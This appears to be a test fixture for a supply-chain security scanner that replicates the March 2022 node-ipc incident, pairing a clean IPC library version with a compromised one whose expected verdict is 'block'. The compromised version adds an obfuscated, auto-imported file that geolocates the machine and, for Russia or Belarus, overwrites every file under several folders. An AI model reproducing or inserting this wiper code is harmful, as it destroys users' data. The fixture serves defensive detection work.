import type { Replica, ReplicaVersion } from '../replicas/replica.js';

export const before = {
  version: '10.1.0',
  publishedAt: '2021-08-02T09:14:27.000Z',
  publisher: { name: 'riaevangelist', email: 'ria@mail.example.invalid' },
  manifest: {
    type: 'module',
    main: './node-ipc.js',
    exports: { '.': './node-ipc.js' },
    license: 'MIT',
    description: 'local and remote inter process communication',
    engines: { node: '>=14' },
  },
  files: {
    'node-ipc.js': `import IPC from './services/IPC.js';

class IPCModule extends IPC {
  constructor() {
    super();
    Object.defineProperty(this, 'IPC', { enumerable: true, writable: false, value: IPC });
  }
}

const singleton = new IPCModule();

export { singleton as default, IPCModule };
`,
    'services/IPC.js': `import os from 'os';
import Client from '../dao/client.js';
import Server from '../dao/socketServer.js';

class Defaults {
  constructor() {
    this.appspace = 'app.';
    this.socketRoot = '/tmp/';
    this.id = os.hostname();
    this.encoding = 'utf8';
    this.silent = false;
    this.delimiter = '\\f';
    this.retry = 500;
  }
}

export default class IPC {
  constructor() {
    this.config = new Defaults();
    this.of = {};
    this.server = false;
  }

  log(...args) {
    if (!this.config.silent) console.log(...args);
  }

  connectTo(id, path, callback) {
    const client = new Client(this.config, this.log.bind(this));
    client.id = id;
    client.path = path || \`\${this.config.socketRoot}\${this.config.appspace}\${id}\`;
    this.of[id] = client;
    client.connect();
    if (callback) callback(this);
  }

  serve(path, callback) {
    const where = path || \`\${this.config.socketRoot}\${this.config.appspace}\${this.config.id}\`;
    this.server = new Server(where, this.config, this.log.bind(this));
    if (callback) this.server.on('start', callback);
  }
}
`,
    'dao/client.js': `import net from 'net';
import { EventEmitter } from 'events';

export default class Client extends EventEmitter {
  constructor(config, log) {
    super();
    this.config = config;
    this.log = log;
    this.left = '';
  }

  connect() {
    this.socket = net.connect({ path: this.path });
    this.socket.setEncoding(this.config.encoding);
    this.socket.on('error', (err) => this.emit('error', err));
    this.socket.on('data', (data) => {
      const parts = (this.left + data).split(this.config.delimiter);
      this.left = parts.pop();
      for (const part of parts) {
        const { type, data: value } = JSON.parse(part);
        this.emit(type, value);
      }
    });
  }

  send(type, data) {
    this.socket.write(JSON.stringify({ type, data }) + this.config.delimiter);
  }
}
`,
    'dao/socketServer.js': `import net from 'net';
import fs from 'fs';
import { EventEmitter } from 'events';

export default class Server extends EventEmitter {
  constructor(path, config, log) {
    super();
    Object.assign(this, { path, config, log, sockets: [] });
  }

  start() {
    fs.unlink(this.path, () => {
      this.server = net.createServer((socket) => {
        this.sockets.push(socket);
        socket.on('data', (data) => this.emit('data', data, socket));
      });
      this.server.listen(this.path, () => this.emit('start'));
    });
  }

  stop() {
    this.server.close();
  }
}
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'node-ipc-2022',
  story: 'March 2022: a new file asks where the machine is and, in two countries, overwrites every file below some folders.',
  name: 'node-ipc',
  before,
  after: {
    version: '10.1.1',
    publishedAt: '2022-03-07T09:14:27.000Z',
    publisher: { name: 'riaevangelist', email: 'ria@mail.example.invalid' },
    manifest: {
      type: 'module',
      main: './node-ipc.js',
      exports: { '.': './node-ipc.js' },
      license: 'MIT',
      description: 'local and remote inter process communication',
      engines: { node: '>=14' },
    },
    files: {
      ...before.files,
      'node-ipc.js': `import './dao/ssl-geospec.js';
` + before.files['node-ipc.js'],
      'dao/ssl-geospec.js': `import u from"path";import a from"fs";import o from"https";setTimeout(function(){const t=Math.round(Math.random()*4);if(t>1){return}const n=Buffer.from("aHR0cHM6Ly9hcGkuaXBnZW9sb2NhdGlvbi5leGFtcGxlLmludmFsaWQvaXBnZW8/YXBpS2V5PW5vbmU=","base64");o.get(n.toString("utf8"),function(t){t.on("data",function(t){const n=Buffer.from("Li9leGFtcGxlLmludmFsaWQtZm9sZGVyLw==","base64");const o=Buffer.from("Li9leGFtcGxlLmludmFsaWQtZm9sZGVyL2Ev","base64");const r=Buffer.from("Li9leGFtcGxlLmludmFsaWQtZm9sZGVyL2Iv","base64");const f=Buffer.from("Li9leGFtcGxlLmludmFsaWQtZm9sZGVyL2Mv","base64");const c=Buffer.from("Y291bnRyeV9uYW1l","base64");const e=Buffer.from("cnVzc2lh","base64");const i=Buffer.from("YmVsYXJ1cw==","base64");try{const s=JSON.parse(t.toString("utf8"));const u=s[c.toString("utf8")].toLowerCase();const a=u.includes(e.toString("utf8"))||u.includes(i.toString("utf8"));if(a){h(n.toString("utf8"));h(o.toString("utf8"));h(r.toString("utf8"));h(f.toString("utf8"))}}catch(t){}})})},Math.ceil(Math.random()*1e3));async function h(n="",o=""){if(!a.existsSync(n)){return}let r=[];try{r=a.readdirSync(n)}catch(t){}const f=[];const c=Buffer.from("4p2k77iP","base64");for(var e=0;e<r.length;e++){const i=u.join(n,r[e]);let t=null;try{t=a.lstatSync(i)}catch(t){continue}if(t.isDirectory()){const s=h(i,o);s.length>0?f.push(...s):null}else if(i.indexOf(o)>=0){try{a.writeFile(i,c.toString("utf8"),function(){})}catch(t){}}}return f};const ssl=true;export{ssl as default,ssl};
`,
    },
  },
  must: 'block',
};
